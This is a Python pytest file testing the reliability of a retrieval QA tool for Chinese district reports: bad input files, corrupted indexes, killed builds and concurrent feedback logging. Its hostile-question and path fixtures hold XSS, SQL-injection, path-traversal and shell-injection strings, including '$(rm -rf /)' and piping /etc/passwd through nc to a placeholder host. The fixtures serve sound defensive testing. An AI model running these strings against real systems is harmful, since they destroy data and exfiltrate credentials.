"""Reliability (issue 8): bad report files, killed builds, damaged indexes, hostile questions, paths
from user input, concurrent feedback. The numbers these tests print go into README "Reliability".

Builds use one seed report (40 passages) so that the file stays within a few minutes on two cores:
the module's one real embedding build is copied for each test, and a test that changes the folder
reuses its vectors.
"""

from __future__ import annotations

import builtins
import errno
import hashlib
import io
import json
import logging
import os
import random
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import faiss
import numpy as np
import pytest

import qa
from qa import chat
from qa import index as index_module
from qa.cli import main as cli_main
from qa.index import (
    BuildError,
    IndexDamagedError,
    IndexMismatchError,
    build_index,
    current_generation,
    file_sha256,
    index_status,
    load_index,
    scan_reports,
)
from qa.ingest import load_document
from qa.settings import Settings
from tests.conftest import SEEDS_DIR

SEED = "002_dd07b67f804f2d67.txt"
QA_BIN = Path(sys.executable).with_name("qa")

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"
    b"\x00\x00\x00\rIDATx\x9cc\xf8\xff\xff?\x00\x05\xfe\x02\xfe\xa7\x35\x81\x84\x00\x00\x00\x00IEND\xaeB`\x82"
)


def settings_for(docs: Path, index: Path, **overrides: object) -> Settings:
    return Settings.from_env().with_overrides(docs_dir=docs, index_dir=index, **overrides)


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """One seed report, indexed once for the module (the only full embedding build of most tests)."""
    root = tmp_path_factory.mktemp("base")
    (root / "docs").mkdir()
    shutil.copy(SEEDS_DIR / SEED, root / "docs" / SEED)
    settings = settings_for(root / "docs", root / "index")
    build_index(settings, progress=False)
    return settings


@pytest.fixture
def corpus(base: Settings, tmp_path: Path) -> Settings:
    """A private copy of the base folder and its index."""
    shutil.copytree(base.docs_dir, tmp_path / "docs", symlinks=True)
    shutil.copytree(base.index_dir, tmp_path / "index")
    return settings_for(tmp_path / "docs", tmp_path / "index")


def snapshot(directory: Path) -> dict[str, str]:
    """Every file of an index directory (the lock file aside) → sha256 of its bytes."""
    return {
        str(p.relative_to(directory)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(directory.rglob("*"))
        if p.is_file() and p.name != ".lock"
    }


# ---------------------------------------------------------------- 1. bad report files

HEADINGS_ONLY = "一、2024年工作回顾\n（一）经济发展\n（二）社会民生\n二、2025年工作安排\n（一）产业升级\n"
SMALL_REPORT = "一、2024年工作回顾\n\n全年新增绿地 5 公顷，新建口袋公园 3 座。\n"


def _zip_bytes() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.txt", SMALL_REPORT * 50)
    return buffer.getvalue()


def _write_huge(path: Path, megabytes: int = 50) -> None:
    block = ("全年新增绿地 5 公顷，新建口袋公园 3 座。\n" * 20000).encode("utf-8")[: 1 << 20]
    with path.open("wb") as handle:
        for _ in range(megabytes):
            handle.write(block)


def _deny_reading(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """EACCES for one file: chmod 000 where that works, and an open() that refuses it when running as
    root (root reads mode-000 files, so chmod alone proves nothing there)."""
    if os.geteuid() != 0:
        return
    real_open = Path.open

    def guarded(self: Path, *args: object, **kwargs: object):
        if self.name == name:
            raise PermissionError(errno.EACCES, "Permission denied", str(self))
        return real_open(self, *args, **kwargs)

    monkeypatch.setattr(Path, "open", guarded)


def make_bad(kind: str, docs: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """Put one bad file of `kind` into `docs`; return its name."""
    name = f"bad_{kind}.txt"
    path = docs / name
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "png":
        path.write_bytes(PNG)
    elif kind == "zip":
        path.write_bytes(_zip_bytes())
    elif kind == "undecodable":
        path.write_bytes("一、工作回顾\n全年新增绿地".encode() + b"\xff\xfe\xff\x81\x20" * 40 + "。\n".encode())
    elif kind == "huge":
        _write_huge(path)
    elif kind == "headings":
        path.write_text(HEADINGS_ONLY, encoding="utf-8")
    elif kind == "unreadable":
        path.write_text(SMALL_REPORT, encoding="utf-8")
        path.chmod(0)
        _deny_reading(monkeypatch, name)
    elif kind == "symlink_loop":
        (docs / "bad_loop_b.txt").symlink_to(path)
        path.symlink_to(docs / "bad_loop_b.txt")
    elif kind in ("vanish_listed", "vanish_hashed"):
        path.write_text(SMALL_REPORT, encoding="utf-8")
        if kind == "vanish_listed":  # gone between listing the folder and reading the file
            real_list = index_module.list_reports

            def listed_then_deleted(docs_dir: Path, *added_dirs: Path) -> list[Path]:
                paths = real_list(docs_dir, *added_dirs)
                path.unlink(missing_ok=True)
                return paths

            monkeypatch.setattr(index_module, "list_reports", listed_then_deleted)
        else:  # gone between hashing it and parsing it
            real_load = index_module.load_document

            def deleted_then_loaded(p: Path, **kwargs: object):
                if p.name == name:
                    p.unlink(missing_ok=True)
                return real_load(p, **kwargs)

            monkeypatch.setattr(index_module, "load_document", deleted_then_loaded)
    else:
        raise AssertionError(kind)
    return name


#: kind → what the reason must say.
BAD_KINDS = {
    "empty": r"为空",
    "png": r"编码|不是文本",
    "zip": r"编码|不是文本",
    "undecodable": r"编码",
    "huge": r"过大.*50\.0 MB.*QA_MAX_REPORT_MB",
    "headings": r"只有标题",
    "unreadable": r"Permission denied|无法读取",
    "symlink_loop": r"symbolic links|cannot read",
    "vanish_listed": r"No such file|cannot read",
    "vanish_hashed": r"不存在|No such file",
}


def test_bad_files_are_skipped_with_a_reason_and_the_rest_is_built(
    corpus: Settings, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    names = {kind: make_bad(kind, corpus.docs_dir, monkeypatch) for kind in BAD_KINDS}
    names["symlink_loop_b"] = "bad_loop_b.txt"
    caplog.set_level(logging.WARNING, logger="qa.index")
    started = time.perf_counter()
    report = build_index(corpus, progress=False)
    seconds = time.perf_counter() - started
    print(f"\nbuild with {len(names)} bad files beside 1 good one: {seconds:.1f} s; skipped: {report.skipped}")

    assert set(report.skipped) == set(names.values())
    for kind, pattern in BAD_KINDS.items():
        assert re.search(pattern, report.skipped[names[kind]]), (kind, report.skipped[names[kind]])
    warned = " ".join(r.getMessage() for r in caplog.records)
    assert all(name in warned for name in names.values()), "each skipped file is named in a warning"
    assert report.unchanged == [SEED] and report.embedded == 0
    loaded = load_index(corpus.index_dir)
    assert {c.source for c in loaded.chunks} == {SEED}
    assert loaded.manifest["skipped"] == report.skipped
    assert seconds < 30, "the 50 MB file is refused before it is read"


def test_a_huge_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    huge = tmp_path / "huge.txt"
    _write_huge(huge)
    settings = settings_for(tmp_path, tmp_path / "index")
    started = time.perf_counter()
    hashes, skipped = scan_reports([huge], settings)
    assert time.perf_counter() - started < 1.0
    assert not hashes and "过大" in skipped["huge.txt"]
    hashes, skipped = scan_reports([huge], settings.with_overrides(max_report_mb=60))
    assert "huge.txt" in hashes and not skipped


def test_max_report_size_comes_from_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    assert Settings.from_env().max_report_mb == 10 or "QA_MAX_REPORT_MB" in os.environ
    monkeypatch.setenv("QA_MAX_REPORT_MB", "3")
    assert Settings.from_env().max_report_mb == 3


@pytest.mark.parametrize("kind", sorted(BAD_KINDS))
def test_strict_build_fails_on_a_bad_file_and_keeps_the_index(
    corpus: Settings, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    before = snapshot(corpus.index_dir)
    name = make_bad(kind, corpus.docs_dir, monkeypatch)
    with pytest.raises(BuildError, match=re.escape(name)):
        build_index(corpus, strict=True, progress=False)
    assert snapshot(corpus.index_dir) == before
    assert {c.source for c in load_index(corpus.index_dir).chunks} == {SEED}


def test_strict_build_fails_even_when_nothing_changed(corpus: Settings, monkeypatch: pytest.MonkeyPatch) -> None:
    make_bad("empty", corpus.docs_dir, monkeypatch)
    assert "bad_empty.txt" in build_index(corpus, progress=False).skipped
    before = snapshot(corpus.index_dir)
    with pytest.raises(BuildError, match=r"bad_empty\.txt"):
        build_index(corpus, strict=True, progress=False)
    assert snapshot(corpus.index_dir) == before


def test_cli_build_warns_and_strict_exits_1(corpus: Settings, capsys: pytest.CaptureFixture) -> None:
    (corpus.docs_dir / "bad.txt").write_bytes(PNG)
    args = ["build", "--docs", str(corpus.docs_dir), "--index", str(corpus.index_dir), "-q"]
    assert cli_main(args) == 0
    assert "bad.txt" in capsys.readouterr().err
    assert cli_main([*args, "--strict"]) == 1
    err = capsys.readouterr().err
    assert "构建失败" in err and "bad.txt" in err


def test_build_help_documents_exit_codes(capsys: pytest.CaptureFixture) -> None:
    with pytest.raises(SystemExit) as exit_info:
        cli_main(["build", "--help"])
    assert exit_info.value.code == 0
    text = capsys.readouterr().out
    assert "exit codes" in text and all(f"  {code}  " in text for code in (0, 1, 2))
    assert "QA_MAX_REPORT_MB" in text


# ---------------------------------------------------------------- 2. damaged and mismatched indexes


def _corrupt(path: Path, how: str) -> None:
    data = path.read_bytes()
    if how == "truncated":
        path.write_bytes(data[: len(data) // 2])
    elif how == "empty":
        path.write_bytes(b"")
    elif how == "garbage":
        path.write_bytes(np.random.default_rng(7).bytes(max(64, len(data))))
    elif how == "deleted":
        path.unlink()
    elif how == "bit_flipped":  # one bit in the middle: the file usually still parses
        flipped = bytearray(data)
        flipped[len(data) // 2] ^= 0x01
        path.write_bytes(bytes(flipped))
    elif how == "last_line_dropped":
        path.write_bytes(b"".join(data.splitlines(keepends=True)[:-1]))
    elif how == "wrong_shape":
        path.write_text("[]" if path.suffix == ".json" else "{}", encoding="utf-8")
    elif how == "missing_keys":
        manifest = json.loads(data)
        del manifest["counts"]
        path.write_text(json.dumps(manifest), encoding="utf-8")
    else:
        raise AssertionError(how)


INDEX_FILES = [
    "manifest.json",
    "documents.json",
    "chunks.jsonl",
    "dense.faiss",
    "userdict.txt",
    "bm25/data.csc.index.npy",
    "bm25/indices.csc.index.npy",
    "bm25/indptr.csc.index.npy",
    "bm25/params.index.json",
    "bm25/vocab.index.json",
]
DAMAGE = [
    (name, how)
    for name in INDEX_FILES
    for how in ("truncated", "empty", "garbage", "deleted", "bit_flipped")
    if not (name == "manifest.json" and how == "bit_flipped")  # may still be a valid manifest: see below
]
DAMAGE += [
    ("chunks.jsonl", "last_line_dropped"),
    ("manifest.json", "wrong_shape"),
    ("manifest.json", "missing_keys"),
    ("documents.json", "wrong_shape"),
    ("CURRENT", "garbage"),
    ("CURRENT", "empty"),
]


def test_every_damaged_index_file_gives_index_damaged_error(base: Settings, tmp_path: Path) -> None:
    pristine = snapshot(base.index_dir)
    outcomes = []
    for n, (name, how) in enumerate(DAMAGE):
        index = tmp_path / f"index-{n}"
        shutil.copytree(base.index_dir, index)
        target = index / name if name == "CURRENT" else current_generation(index) / name
        _corrupt(target, how)
        try:
            load_index(index)
        except IndexDamagedError as error:
            assert "qa build --full" in str(error), (name, how, error)
            outcomes.append("damaged")
        except Exception as error:
            pytest.fail(f"{name} {how}: {type(error).__name__}: {error}")
        else:
            pytest.fail(f"{name} {how}: loaded without complaint")
    print(f"\n{len(outcomes)} damaged-index cases, all IndexDamagedError")
    assert snapshot(base.index_dir) == pristine


@pytest.mark.slow
@pytest.mark.parametrize(("name", "how"), [("manifest.json", "garbage"), ("dense.faiss", "truncated")])
def test_a_damaged_index_is_repaired_by_full_build(corpus: Settings, name: str, how: str, capsys) -> None:
    _corrupt(current_generation(corpus.index_dir) / name, how)
    assert cli_main(["ask", "庙行镇2023年上半年新增了多少户企业？", "--index", str(corpus.index_dir)]) == 1
    err = capsys.readouterr().err
    assert "qa build --full" in err and "Traceback" not in err
    build_index(corpus, full=True, progress=False)
    assert {c.source for c in load_index(corpus.index_dir).chunks} == {SEED}


@pytest.mark.slow
@pytest.mark.parametrize("name", ["bm25/data.csc.index.npy", "dense.faiss", "chunks.jsonl"])
def test_a_damaged_index_is_repaired_by_a_plain_build(corpus: Settings, name: str) -> None:
    """`qa build` without --full does not call a damaged index up to date; it re-embeds only when the
    vectors or their keys are what was damaged."""
    _corrupt(current_generation(corpus.index_dir) / name, "bit_flipped")
    assert index_status(corpus).stale
    report = build_index(corpus, progress=False)
    assert not report.noop
    assert (report.embedded > 0) == (name in ("dense.faiss", "chunks.jsonl"))
    assert {c.source for c in load_index(corpus.index_dir).chunks} == {SEED}
    assert not index_status(corpus).stale


def _with_dimension(index: Path, dimension: int) -> None:
    """Rewrite the live generation as a consistent index of another dimension."""
    generation = current_generation(index)
    dense = faiss.read_index(str(generation / "dense.faiss"))
    other = faiss.IndexFlatIP(dimension)
    other.add(np.ones((dense.ntotal, dimension), dtype=np.float32))
    faiss.write_index(other, str(generation / "dense.faiss"))
    manifest_path = generation / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["dimension"] = dimension
    manifest["checksums"]["dense.faiss"] = file_sha256(generation / "dense.faiss")
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")


def test_index_of_another_dimension_is_a_mismatch(corpus: Settings, capsys: pytest.CaptureFixture) -> None:
    _with_dimension(corpus.index_dir, 8)
    with pytest.raises(IndexMismatchError, match="qa build --full"):
        load_index(corpus.index_dir, expected_dimension=384)
    assert cli_main(["ask", "高境镇2023年地方财政收入是多少？", "--index", str(corpus.index_dir)]) == 1
    assert "qa build --full" in capsys.readouterr().err


def test_index_of_another_model_is_refused_by_the_cli(corpus: Settings, capsys: pytest.CaptureFixture) -> None:
    manifest_path = current_generation(corpus.index_dir) / "manifest.json"
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    manifest["model"] = "intfloat/multilingual-e5-base"
    manifest_path.write_text(json.dumps(manifest), encoding="utf-8")
    assert cli_main(["ask", "高境镇2023年地方财政收入是多少？", "--index", str(corpus.index_dir)]) == 1
    err = capsys.readouterr().err
    assert "multilingual-e5-base" in err and "qa build --full" in err


# ---------------------------------------------------------------- 2. killed builds

KILLS = int(os.environ.get("QA_TEST_KILLS", "20"))
EXTRA = "extra_004.txt"


def _extra_report(chars: int = 5000) -> str:
    """The head of another seed report, cut at a line end: a second, smaller report (a dozen passages)."""
    text = (SEEDS_DIR / "004_8d55160e06e9d7cd.txt").read_text(encoding="utf-8")
    return text[: text.rfind("\n", 0, chars) + 1]


def _expected_chunks(docs: Path, settings: Settings) -> int:
    return sum(len(load_document(p, max_chunk_chars=settings.chunk_max_chars).chunks) for p in docs.glob("*.txt"))


def _run_build(docs: Path, index: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [str(QA_BIN), "build", "--docs", str(docs), "--index", str(index), "-q"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )


def _timed_build(docs: Path, index: Path) -> float:
    started = time.perf_counter()
    assert _run_build(docs, index).wait(timeout=300) == 0
    return time.perf_counter() - started


@pytest.mark.slow
def test_killed_builds_leave_the_old_or_the_new_index(corpus: Settings) -> None:
    """SIGKILL `qa build` at random moments across its whole run. The folder alternates between one
    report and two, so every build has work to do: adding the second report embeds its passages,
    removing it writes a new generation. After each kill the index loads and is exactly the old
    complete index or the new one, and the next build completes."""
    docs, index = corpus.docs_dir, corpus.index_dir
    extra = _extra_report()
    seed = int(os.environ.get("QA_TEST_SEED", time.time_ns() % 100_000))
    rng = random.Random(seed)
    expected: dict[frozenset[str], int] = {frozenset({SEED}): _expected_chunks(docs, corpus)}
    (docs / EXTRA).write_text(extra, encoding="utf-8")
    expected[frozenset({SEED, EXTRA})] = _expected_chunks(docs, corpus)
    # How long each kind of build takes, measured first (both complete).
    durations = {"add": _timed_build(docs, index)}
    (docs / EXTRA).unlink()
    durations["remove"] = _timed_build(docs, index)

    kills, rounds, outcomes, leftovers = 0, 0, {"old": 0, "new": 0}, 0
    while kills < KILLS and rounds < 3 * KILLS:
        rounds += 1
        adding = not (docs / EXTRA).exists()
        old = frozenset({c.source for c in load_index(index).chunks})
        if adding:
            (docs / EXTRA).write_text(extra, encoding="utf-8")
        else:
            (docs / EXTRA).unlink()
        new = frozenset(p.name for p in docs.glob("*.txt"))
        delay = rng.uniform(0, durations["add" if adding else "remove"] * 1.05)
        process = _run_build(docs, index)
        try:
            process.wait(timeout=delay)
        except subprocess.TimeoutExpired:
            os.kill(process.pid, signal.SIGKILL)
            kills += 1
        returncode = process.wait(timeout=60)
        assert returncode in (0, -signal.SIGKILL), f"build failed with {returncode}"

        loaded = load_index(index)
        sources = frozenset(c.source for c in loaded.chunks)
        assert sources in (old, new), f"round {rounds}: {sorted(sources)} is neither the old nor the new index"
        assert len(loaded.chunks) == loaded.dense.ntotal == expected[sources]
        outcomes["new" if sources == new and new != old else "old"] += 1
        leftovers += any(p.name.startswith(".tmp-") for p in index.iterdir())
        if returncode != 0:  # the next build completes, and cleans up after the killed one
            report = build_index(corpus, progress=False)
            assert frozenset(c.source for c in load_index(index).chunks) == new
            assert report.chunks == expected[new]
            assert not any(p.name.startswith(".tmp-") for p in index.iterdir())
    print(
        f"\nkilled builds (seed {seed}): {kills} SIGKILLs in {rounds} rounds "
        f"(build: {durations['add']:.1f} s adding a report, {durations['remove']:.1f} s removing it); "
        f"after the kill the index was the old one {outcomes['old']}×, the new one {outcomes['new']}×; "
        f"{leftovers} kills left a half-written generation behind, all cleaned up by the next build; "
        "nothing lost"
    )
    assert kills >= KILLS


# ---------------------------------------------------------------- 3. hostile questions

_PADDING = "大场镇2022年引进了多少家企业？"
HOSTILE = {
    "empty": "",
    "whitespace": " \t\n\u3000\r\n ",
    "100k_chars": (_PADDING * (100_000 // len(_PADDING) + 1))[:100_000],
    "control": "\x00\x01\x07\x1b[31m大场镇\x7f\u200b\u202e2022年\x1b[0m引进企业\x08\x0c",
    "emoji": "😀🎉🇨🇳 大场镇2022年引进了多少家企业？👍🏽👨‍👩‍👧",
    "html_js": '<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:x">高境镇</a>财政收入？',
    "sql": "'; DROP TABLE reports; -- \" OR 1=1 UNION SELECT * FROM users /*",
    "shell": "$(rm -rf /) `cat /etc/passwd` | nc evil 1 && echo ${HOME}; ../../etc/passwd %s %n {0}",
    "punctuation": "？！。，、；：“”‘’（）《》…—!?.,;:'\"()[]{}<>/\\|~`@#$%^&*-_=+",
    "mixed_scripts": "Gaojing镇2023年 фискальный доход 財政收入 지방세 مرحبا שלום ทดสอบ",
    "leading_dash": "--help -rf",
    "lone_surrogates": "\ud800大场镇\udcff2022年",
}
ABSTENTION = "报告中没有找到"


def _check_answer(answer: qa.Answer, question: str) -> None:
    assert isinstance(answer, qa.Answer)
    assert isinstance(answer.answer, str) and answer.answer
    if answer.answerable:
        assert re.search(r"\[\d+\]", answer.answer) and answer.hits
    else:
        assert ABSTENTION in answer.answer


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_question_through_the_library(kind: str) -> None:
    question = HOSTILE[kind]
    try:
        answer = qa.ask(question)
        hits = qa.retrieve(question, k=3)
    except ValueError as error:  # a clear error is acceptable: it must say what is wrong
        assert str(error)
        return
    _check_answer(answer, question)
    assert len(hits) <= 3 and all(isinstance(h, qa.Hit) for h in hits)


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_question_through_the_cli(kind: str, capsys: pytest.CaptureFixture) -> None:
    question = HOSTILE[kind]
    if "\x00" in question:
        question = question.replace("\x00", "")  # argv cannot carry NUL; the library test covers it
    code = cli_main(["ask", "--", question]) if question.startswith("-") else cli_main(["ask", question])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    if code == 0:
        assert "答" in out or ABSTENTION in out
    else:
        assert code == 1 and err.startswith("错误：")
    code = cli_main(["ask", question[:200], "--json"]) if not question.startswith("-") else 0
    if code == 0 and not question.startswith("-"):
        payload = json.loads(capsys.readouterr().out)
        assert isinstance(payload["answerable"], bool) and isinstance(payload["hits"], list)


@pytest.mark.slow
@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_hostile_question_through_the_chat(kind: str) -> None:
    from qa.search import get_retriever

    question, notice = chat.prepare_question(HOSTILE[kind])
    if not HOSTILE[kind].strip():
        assert (question, notice) == ("", None)
        return
    assert len(question) <= chat.MAX_QUESTION_CHARS
    assert (notice is not None) == (len(HOSTILE[kind].strip()) > chat.MAX_QUESTION_CHARS)
    question.encode("utf-8")  # what reaches the model is encodable
    answer = qa.ask(chat.resolve_followup(question, "大场镇2022年引进了多少家企业？", ["大场镇", "高境镇", "庙行镇"]))
    messages = [
        chat.question_message(question),
        *chat.answer_messages(answer, notice=notice, context=get_retriever().context, echo=True),
    ]
    raw = json.dumps(messages, ensure_ascii=False).lower()
    assert "<script" not in raw and "<img" not in raw and "<a " not in raw and "javascript:x\">" not in raw
    shown = chat.strip_tags(messages[0]["content"])
    assert shown == question


# ---------------------------------------------------------------- 5. paths from user input, feedback


class OpenRecorder:
    """Every path the process opens while active (builtins.open, io.open and so Path.open, os.open)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.paths: list[str] = []
        real_open, real_os_open = builtins.open, os.open

        def recording_open(file, *args, **kwargs):
            self.paths.append(os.fsdecode(file) if isinstance(file, (str, bytes, os.PathLike)) else repr(file))
            return real_open(file, *args, **kwargs)

        def recording_os_open(path, *args, **kwargs):
            self.paths.append(os.fsdecode(path))
            return real_os_open(path, *args, **kwargs)

        monkeypatch.setattr(builtins, "open", recording_open)
        monkeypatch.setattr(io, "open", recording_open)
        monkeypatch.setattr(os, "open", recording_os_open)

    def touched(self, needle: str) -> list[str]:
        return [p for p in self.paths if needle in p]


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory):
    import app

    settings = Settings.from_env().with_overrides(feedback_dir=tmp_path_factory.mktemp("feedback"))
    demo = app.build_app(settings=settings)
    app.launch(demo, "127.0.0.1", _free_port(), block=False)
    yield demo
    demo.close()


def _ask_fn(demo):
    return next(f.fn for f in demo.fns.values() if f.api_name == "ask")


PATHS = ["../../etc/passwd", "/etc/passwd", "..", "seeds/../../../etc/shadow", str(SEEDS_DIR / SEED)]


@pytest.mark.slow
@pytest.mark.parametrize("path", PATHS)
def test_chat_opens_no_path_from_user_input(server, monkeypatch: pytest.MonkeyPatch, path: str) -> None:
    from gradio_client import Client

    question = "高境镇2023年全年地方财政收入是多少？"
    fn = _ask_fn(server)
    unfiltered, _ = fn(question, "", "all", "all")
    recorder = OpenRecorder(monkeypatch)
    Path(__file__).read_text(encoding="utf-8")
    assert recorder.touched(Path(__file__).name), "the recorder sees Path.open"
    # The reply function itself, past Gradio's check of the dropdown values: the filter is ignored.
    for town, report in ((path, "all"), ("all", path), (path, path)):
        messages, asked = fn(question, "", town, report)
        assert messages == unfiltered and asked == question
    # Through the API, Gradio refuses values that are not in the lists.
    client = Client(server.local_url, verbose=False)
    for filters in ({"report": path}, {"town": path}):
        with pytest.raises(Exception, match=r"(?i)error|not in|choices"):
            client.predict(message=question, **filters, api_name="/ask")
    needle = Path(path).name if path != ".." else "/.."
    assert not recorder.touched(needle) and not recorder.touched("passwd") and not recorder.touched("shadow")
    assert not recorder.touched(str(SEEDS_DIR)), "the chat answers from the index, never from report files"


@pytest.mark.slow
def test_hostile_questions_through_the_api(server) -> None:
    from gradio_client import Client

    client = Client(server.local_url, verbose=False)
    for kind, question in HOSTILE.items():
        if kind == "lone_surrogates":  # gradio_client cannot send them; a raw JSON "\ud800" reaches this
            messages, _ = _ask_fn(server)(question, "", "all", "all")
        else:
            messages = client.predict(message=question, api_name="/ask")
        assert isinstance(messages, list), kind
        if not question.strip():
            assert messages == []
            continue
        raw = json.dumps(messages, ensure_ascii=False).lower()
        assert messages and "<script" not in raw and "<img" not in raw, kind


def test_feedback_log_survives_concurrent_processes(tmp_path: Path) -> None:
    """Four processes append at once (the thread case is in tests/test_chat.py): every line whole."""
    script = (
        "import sys; from pathlib import Path; from qa import chat\n"
        "log = chat.FeedbackLog(Path(sys.argv[1]))\n"
        "for i in range(200):\n"
        "    log.append({'worker': sys.argv[2], 'i': i, 'pad': '政' * 3000})\n"
    )
    workers = [
        subprocess.Popen([sys.executable, "-c", script, str(tmp_path), str(w)], cwd=Path(__file__).parent.parent)
        for w in range(4)
    ]
    assert all(w.wait(timeout=120) == 0 for w in workers)
    lines = (tmp_path / "feedback.jsonl").read_text(encoding="utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == 800
    assert {(r["worker"], r["i"]) for r in records} == {(str(w), i) for w in range(4) for i in range(200)}


@pytest.mark.slow
def test_lone_surrogates_are_replaced_not_refused() -> None:
    """JSON from an API client can carry lone surrogates; the library answers as for U+FFFD."""
    answer = qa.ask(HOSTILE["lone_surrogates"])
    assert "\ufffd" in answer.question and not any("\ud800" <= ch <= "\udfff" for ch in answer.question)
    _check_answer(answer, answer.question)
    assert qa.retrieve(HOSTILE["lone_surrogates"], k=3)
